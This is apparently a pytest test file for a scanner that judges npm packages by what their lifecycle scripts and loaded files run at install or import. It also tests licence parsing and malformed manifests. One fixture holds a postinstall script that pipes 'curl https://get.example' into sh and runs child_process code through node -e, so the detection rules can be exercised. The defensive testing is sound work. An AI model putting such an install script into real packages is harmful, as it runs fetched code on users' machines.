"""What npm does with a package when it is installed."""

import json

import pytest

from holdfast.risk.javascript_packaging import installed_files, scan_manifest, scan_package

_PATH = "package/package.json"


def _manifest(**keys: object) -> bytes:
    return json.dumps({"name": "a", **keys}, indent=1).encode()


def test_only_scripts_that_npm_runs_for_a_dependency_count() -> None:
    """`prepare` runs only where the package comes from a repository; `test` never."""
    data = _manifest(scripts={"preinstall": "a", "postinstall": "b", "prepare": "c", "test": "d"})
    assert [one.found for one in scan_manifest(_PATH, data, ()).evidence] == ["preinstall: a", "postinstall: b"]
    assert len(scan_manifest(_PATH, data, (), is_repository=True).evidence) == 3


def test_an_install_script_that_fetches_and_runs_is_said_as_such() -> None:
    """A script's own commands and the code that it hands to node are read, at its line."""
    code = "node -e \"require('child_process').exec('npx x')\""
    data = _manifest(scripts={"postinstall": f"curl https://get.example | sh && {code}"})
    found = {(one.rule, one.line, one.moment) for one in scan_manifest(_PATH, data, ()).evidence}
    assert {
        ("javascript-install-script", 4, "install"),
        ("text-fetched-script", 4, "install"),
        ("javascript-subprocess", 4, "install"),
        ("javascript-fetches-code", 4, "install"),
    } == found


def test_what_an_install_script_starts_runs_at_install() -> None:
    """The top of a file that `node` is given by an install script runs when the package is installed."""
    files = [
        (_PATH, _manifest(scripts={"install": "node ./lib/install || exit 0"})),
        ("package/lib/install.js", b"require('child_process').execSync('make')"),
        ("package/index.js", b"require('child_process').execSync('make')"),
    ]
    found = {(one.path, one.moment) for one in scan_package("a", files).evidence if one.capability == "subprocess"}
    assert found == {("package/lib/install.js", "install"), ("package/index.js", "import")}


def test_files_that_inline_code_requires_are_started_as_well() -> None:
    """`node -e "require('./x')"` starts x."""
    data = _manifest(scripts={"postinstall": "node -e \"try{require('./post')}catch(e){}\""})
    assert installed_files(_PATH, data) == (
        "package/post",
        "package/post.cjs",
        "package/post.js",
        "package/post/index.js",
    )


def test_a_build_file_alone_is_built() -> None:
    """A binding.gyp without install scripts means node-gyp; with one, that script stands for it."""
    members = ("package/binding.gyp",)
    assert [one.found for one in scan_manifest(_PATH, _manifest(), members).evidence] == ["install: node-gyp rebuild"]
    assert len(scan_manifest(_PATH, _manifest(scripts={"install": "x"}), members).evidence) == 1


def test_licences_of_all_ages_are_read() -> None:
    """A licence is a text, an object, or a list of either of which any may be chosen."""
    cases: dict[str, dict[str, object]] = {
        "MIT": {"license": "MIT"},
        "ISC": {"license": {"type": "ISC", "url": "x"}},
        "(MIT OR Apache-2.0)": {"licenses": [{"type": "MIT"}, {"type": "Apache-2.0"}]},
        "": {"license": 3},
    }
    for expected, keys in cases.items():
        assert scan_manifest(_PATH, _manifest(**keys), ()).licence == expected


def test_a_manifest_that_is_none_is_named() -> None:
    """What is no JSON object is listed, never skipped."""
    for data in (b"", b"[]", b"{", b"\xff", b"[" * 100_000):
        assert [one.reason for one in scan_manifest(_PATH, data, ()).unread] == ["no JSON object"]


def test_a_manifest_deeper_down_is_no_manifest_of_the_package() -> None:
    """Only the one in the archive's first folder speaks for it, whatever the folder is called."""
    files = [
        ("node/package.json", _manifest(license="MIT")),
        ("node/vendor/package.json", _manifest(license="ISC", scripts={"install": "x"})),
    ]
    scan = scan_package("a", files)
    assert (scan.licence, scan.provides, scan.evidence, scan.files) == ("MIT", ("a",), (), 2)


_RUNS = b"require('child_process').execSync('make')\n"


@pytest.mark.parametrize(
    ("keys", "index", "moment"),
    [
        ({}, b"", "call"),
        ({"files": ["deno/a.ts"]}, b"", "call"),
        ({}, b"// see './deno/a'\n", "call"),
        ({"exports": {".": "./index.js", "./*": "./*", "./": "./"}}, b"", "call"),
        ({"exports": {"deno": "./deno/a.ts", "default": "./index.js"}}, b"", "import"),
        ({"exports": {"./*": "./deno/*.ts"}}, b"", "import"),
        ({"react-native": "deno/a"}, b"", "import"),
        ({}, b"require('./deno/a')\n", "import"),
        ({}, b"import './deno/a.js'\n", "import"),
        ({}, b"export * from './deno'\n", "import"),
        ({}, b"require('./lib/more')\n", "import"),
        ({"main": "./lib/more"}, b"", "import"),
        ({"scripts": {"postinstall": "node deno/a.ts"}}, b"", "install"),
    ],
)
def test_typescript_that_nothing_leads_to_runs_for_whoever_asks_for_it(
    keys: dict[str, object], index: bytes, moment: str
) -> None:
    """Node runs no TypeScript of a package; what the manifest or a file that runs names is loaded with it."""
    files = [
        (_PATH, _manifest(**keys)),
        ("package/index.js", index),
        ("package/lib/more.js", b"require('../deno/a.js')\n"),
        ("package/mod.js", b"export * from './deno/index.ts'\n"),  # nothing that runs asks for it
        ("package/deno/index.ts", b"import './a.ts'\n"),
        ("package/deno/a.ts", _RUNS),
    ]
    (found,) = [one for one in scan_package("a", files).evidence if one.capability == "subprocess"]
    assert (found.path, found.moment) == ("package/deno/a.ts", moment)


def test_a_package_of_typescript_alone_is_for_those_who_run_that() -> None:
    """There its code counts as loaded."""
    files = [(_PATH, _manifest()), ("package/deno/a.ts", _RUNS)]
    (found,) = [one for one in scan_package("a", files).evidence if one.capability == "subprocess"]
    assert found.moment == "import"
